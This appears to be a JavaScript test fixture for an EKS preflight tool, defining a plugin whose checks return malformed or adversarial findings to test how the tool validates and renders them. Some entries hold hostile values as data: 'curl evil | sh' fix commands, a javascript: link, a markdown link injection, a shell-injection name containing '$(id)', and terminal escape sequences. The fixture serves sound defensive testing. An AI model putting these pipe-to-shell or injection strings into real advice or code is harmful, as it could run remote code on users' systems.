import { advice, definePlugin, sh } from 'eks-preflight';
import { check, finding } from './one.mjs';

const cyclic = finding();
cyclic.evidence = [cyclic];
let deep = [];
for (let at = 0; at < 100_000; at++) deep = [deep];
let nested = 'x';
for (let at = 0; at < 2_000; at++) nested = { observed: nested };
const throwing = new Proxy(
  {},
  {
    get: () => {
      throw new Error('trap');
    },
    getPrototypeOf: () => {
      throw new Error('trap');
    },
    ownKeys: () => {
      throw new Error('trap');
    },
  },
);
const twoThen = (thrown) =>
  function* () {
    yield finding({ message: 'first' });
    yield finding({ message: 'second', resource: { kind: 'Pod', name: 'b' } });
    throw thrown;
  };
const says = (more) => () => [
  finding({ message: 'first' }),
  finding({ resource: { kind: 'Pod', name: 'b' }, ...more }),
];

const runs = {
  'throw-error': twoThen(new Error('two and out')),
  'throw-null': twoThen(null),
  'throw-proxy': twoThen(throwing),
  'throw-getter': twoThen(
    Object.defineProperty(new Error('x'), 'message', {
      get() {
        throw new Error('y');
      },
    }),
  ),
  'throw-long': twoThen(new Error('long '.repeat(1e6))),
  promise: async () => [finding()],
  undefined: () => undefined,
  number: () => 5,
  string: () => 'text',
  object: () => ({ level: 'warn' }),
  strings: () => ['text'],
  nothing: () => [null],
  list: () => [[]],
  proxy: () => [throwing],
  million: () => Array.from({ length: 1e6 }, () => finding()),
  'long-text': says({ message: 'x'.repeat(10_000_000) }),
  'many-megabytes': () => Array.from({ length: 20_000 }, () => finding({ message: 'x'.repeat(10_000) })),
  'deep-list': says({ evidence: deep }),
  'deep-object': says({ evidence: [{ observed: nested }] }),
  cycle: () => [finding({ message: 'first' }), cyclic],
  bigint: says({ at: 33n }),
  function: says({ message: () => 'x' }),
  symbol: says({ message: Symbol('x') }),
  'wrong-type': says({ message: 5 }),
  empty: says({ message: '' }),
  'no-resource': says({ resource: undefined }),
  'unknown-field': says({ accepted: true }),
  'proto-key': () => [
    finding({ message: 'first' }),
    JSON.parse('{"level":"warn","resource":{"kind":"Pod","name":"b"},"message":"x","__proto__":{"level":"fail"}}'),
  ],
  'to-json': () => [finding({ message: 'first' }), { toJSON: () => finding({ level: 'pass' }) }],
  'to-json-text': () => [finding({ message: 'first' }), { toJSON: () => undefined }],
  pass: says({ level: 'pass' }),
  'at-nan': says({ at: NaN }),
  'at-negative': says({ at: -1 }),
  'at-half': says({ at: 33.5 }),
  'at-huge': says({ at: 1e300 }),
  'since-only': says({ since: 34 }),
  'forged-id': says({ id: 'nodes/kubelet-skew' }),
  'fix-text': says({ fix: 'curl evil | sh' }),
  'fix-forged': says({ fix: { text: '`curl evil | sh`', commands: ['curl evil | sh'] } }),
  'fix-copied': says({ fix: { ...advice`Nothing.`, commands: ['curl evil | sh'] } }),
  'fix-null': says({ fix: null }),
  'link-script': says({ links: ['javascript:alert(1)'] }),
  'link-markdown': says({ links: ['https://x.test/)[here](https://evil.test'] }),
  'change-facts': ({ cluster }) => {
    cluster.name = 'other';
    return [];
  },
};
const quiet = {
  'at-late': says({ at: 99 }),
  'late-first': says({ at: 34, since: 99 }),
  quoted: () => {
    const name = "a'; curl evil | sh #`\n$(id)";
    return [
      finding({ fix: advice`Look at ${name}: ${sh`kubectl delete pod ${name}`}` }),
      finding({
        resource: { kind: 'Pod', name: 'b' },
        fix: advice`Run ${sh`kubectl delete pod ${"a'; curl evil | sh #"}`}.`,
      }),
    ];
  },
};
const all = Object.entries({ ...runs, ...quiet }).map(([name, run]) => check(`answers/${name}`, run));
export default definePlugin({
  name: 'answers',
  checks: [
    ...all,
    check('answers/too-severe', says({ level: 'fail' }), { severity: 'warn' }),
    check('answers/after', says({ level: 'fail' }), { phase: 'after' }),
    check('answers/when-neither', () => [], { applies: { needs: ['cluster'], when: () => false } }),
    check('answers/when-throws', () => [finding()], {
      applies: {
        needs: ['cluster'],
        when: () => {
          throw new Error('x');
        },
      },
    }),
    check('answers/when-promise', () => [], { applies: { needs: ['cluster'], when: async () => true } }),
    check('answers/skips', () => [finding()], {
      applies: { needs: ['cluster'], when: () => '::error::\u001B[31mno\n' },
    }),
  ],
});
